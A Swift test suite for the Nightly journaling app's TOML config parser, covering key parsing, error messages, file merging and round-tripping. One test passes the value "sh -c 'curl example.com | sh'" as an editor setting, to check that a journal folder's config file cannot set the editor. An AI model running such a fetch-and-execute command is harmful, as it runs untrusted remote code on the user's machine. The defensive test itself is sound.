import Foundation
import Testing

@testable import NightlySettings

@Suite struct ConfigParserTests {
    @Test func everyKeyIsRead() throws {
        let text = """
            journal = "~/notes/journal"
            editor = "code --wait"
            layout = "flat"
            reduced_motion = true
            quotes_file = "mine.txt"
            day_ends = "04:00"
            greeting_hold = 5
            on_this_day = false

            [breathing]
            pattern = "4-7-8"
            cycles = 6

            [sections]
            action_step = "Tomorrow, I will"

            [profile]
            name = "Ada"
            why = "To sleep with a quiet mind"
            focus = ["health", "family"]
            reminder = "21:30"
            """
        let config = try ConfigParser.parse(text, path: "config.toml")
        #expect(config.journal == "~/notes/journal")
        #expect(config.editor == "code --wait")
        #expect(config.layout == "flat")
        #expect(config.reducedMotion == true)
        #expect(config.quotesFile == "mine.txt")
        #expect(config.dayEnds == "04:00")
        #expect(config.greetingHold == 5)
        #expect(config.onThisDay == false)
        #expect(config.breathingPattern?.description == "relax")
        #expect(config.cycles == 6)
        #expect(config.sectionTitles == ["action_step": "Tomorrow, I will"])
        #expect(config.profile.name == "Ada")
        #expect(config.profile.focus == ["health", "family"])
        #expect(config.profile.reminder == "21:30")
    }

    @Test(arguments: [
        ("layout = \"year\"\ncolour = \"blue\"\n", 2, "colour", "unknown key"),
        ("[breathing]\npattern = \"calm\"\nspeed = 2\n", 3, "breathing.speed", "unknown key in [breathing]"),
        ("[breathing]\n\ncycles = 0\n", 3, "breathing.cycles", "whole number"),
        ("[breathing]\nminutes = 25\n", 2, "breathing.minutes", "whole number from 1 to 20"),
        ("[breathing]\npattern = \"4-x\"\n", 2, "breathing.pattern", "not IN-OUT"),
        ("layout = \"spiral\"\n", 1, "layout", "one of year, flat, nested"),
        ("reduced_motion = \"yes\"\n", 1, "reduced_motion", "true or false"),
        ("on_this_day = \"no\"\n", 1, "on_this_day", "true or false"),
        ("editor = 3\n", 1, "editor", "must be a string"),
        ("[profile]\nreminder = \"9pm\"\n", 2, "profile.reminder", "HH:MM"),
        ("[profile]\nreminder = \"21:5\"\n", 2, "profile.reminder", "HH:MM"),
        ("[profile]\n\nreminder = \"+9:30\"\n", 3, "profile.reminder", "HH:MM"),
        ("day_ends = \"+4:00\"\n", 1, "day_ends", "from 00:00 to 11:59"),
        ("greeting_hold = -1\n", 1, "greeting_hold", "whole number from 0 to 600"),
        ("greeting_hold = \"20 s\"\n", 1, "greeting_hold", "whole number from 0 to 600"),
        ("[breathing]\ncycles = 3\nminutes = 5\n", 3, "breathing.minutes", "not both"),
        ("breathing = 4\n", 1, "breathing", "must be a table"),
        ("editor = \"vi\"\nday_ends = \"13:00\"\n", 2, "day_ends", "from 00:00 to 11:59"),
        ("[sections]\njournal = \" \"\n", 2, "sections.journal", "on one line, not empty"),
        ("[sections]\npoem = \"Two\\nlines\"\n", 2, "sections.poem", "on one line, not empty"),
        (
            "[profile]\nname = \"Ada\"\neditor = \"nvim\"\n", 3, "profile.editor",
            "'editor' is a top-level key: move it above the first [table] line"
        ),
        // Several bad keys: the first in the file is named (name = 2 sorts first, but comes second).
        ("[profile]\nzodiac = 1\nname = 2\n", 2, "profile.zodiac", "unknown key in [profile]"),
    ])
    func badKeysAndValuesNameTheFileLineAndKey(text: String, line: Int, key: String, message: String) {
        do {
            _ = try ConfigParser.parse(text, path: "/home/ada/.config/nightly/config.toml")
            Issue.record("expected an error")
        } catch let error as ConfigError {
            #expect(error.line == line)
            #expect(error.key == key)
            #expect(error.description.hasPrefix("/home/ada/.config/nightly/config.toml:\(line): key '\(key)': "))
            #expect(error.description.contains(message), "\(error)")
        } catch {
            Issue.record("unexpected \(error)")
        }
    }

    @Test func badTOMLNamesTheLine() {
        #expect {
            try ConfigParser.parse("layout = \"year\"\neditor = \n", path: "c.toml")
        } throws: { error in
            (error as? ConfigError)?.line == 2 && (error as? ConfigError)?.key == nil
        }
    }

    @Test func theJournalFileWinsOverTheUserFile() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("nightly-config-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        try "layout = \"nested\"\n[breathing]\nminutes = 5\n".write(
            to: folder.appendingPathComponent(".nightly.toml"), atomically: true, encoding: .utf8)
        var user = NightlyConfig()
        user.layout = "flat"
        user.editor = "nano"
        user.cycles = 3
        let merged = try ConfigFiles.load(user: user, journal: folder)
        #expect(merged.layout == "nested")
        #expect(merged.editor == "nano")
        #expect(merged.minutes == 5 && merged.cycles == nil)
    }

    @Test(arguments: ["journal = \"/elsewhere\"", "editor = \"sh -c 'curl example.com | sh'\""])
    func theJournalFileMayNotMoveTheJournalOrChooseTheEditor(line: String) throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("nightly-config-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        try "\n\(line)\n".write(
            to: folder.appendingPathComponent(".nightly.toml"), atomically: true, encoding: .utf8)
        let key = String(line.prefix { $0 != " " })
        #expect { try ConfigFiles.load(user: NightlyConfig(), journal: folder) } throws: { error in
            (error as? ConfigError)?.line == 2 && (error as? ConfigError)?.key == key
        }
    }

    @Test func theWriterRoundTrips() throws {
        var config = NightlyConfig()
        config.journal = "~/journal"
        config.dayEnds = "04:00"
        config.greetingHold = 0
        config.reducedMotion = false
        config.quotesFile = "mine.txt"
        config.editor = "nvim"
        config.layout = "flat"
        config.sectionTitles = ["journal": "Today"]
        config.breathingPattern = .calm
        config.minutes = 3
        config.profile.goal = "written a \"real\" book\\novel"
        config.profile.focus = ["health"]
        config.profile.reminder = "21:30"
        #expect(try ConfigParser.parse(ConfigWriter.text(config), path: "x") == config)
    }

    @Test func userConfigFollowsXDG() {
        #expect(ConfigFiles.userPath(environment: ["XDG_CONFIG_HOME": "/x", "HOME": "/h"]) == "/x/nightly/config.toml")
        #expect(ConfigFiles.userPath(environment: ["HOME": "/h"]) == "/h/.config/nightly/config.toml")
    }

    /// Every config error names a line: a dotted key that sets tables on the way, and a file
    /// that is not UTF-8 (the line of its first bad byte).
    @Test func aDottedUnknownKeyNamesItsLine() throws {
        #expect {
            try ConfigParser.parse("journal = \"~/j\"\n\na.b.c.d = 1\n", path: "config.toml")
        } throws: { error in
            (error as? ConfigError)?.line == 3 && (error as? ConfigError)?.key == "a"
        }
    }

    @Test func aConfigThatIsNotUTF8NamesTheLineOfTheFirstBadByte() throws {
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("nightly-config-\(UUID()).toml")
        defer { try? FileManager.default.removeItem(at: file) }
        try Data(Array("journal = \"~/j\"\neditor = \"vi ".utf8) + [0xFF, 0x22, 0x0A]).write(to: file)
        #expect {
            try ConfigParser.load(path: file.path)
        } throws: { error in
            let error = error as? ConfigError
            return error?.line == 2 && error?.message.contains("not valid UTF-8 (column 14)") == true
        }
    }
}
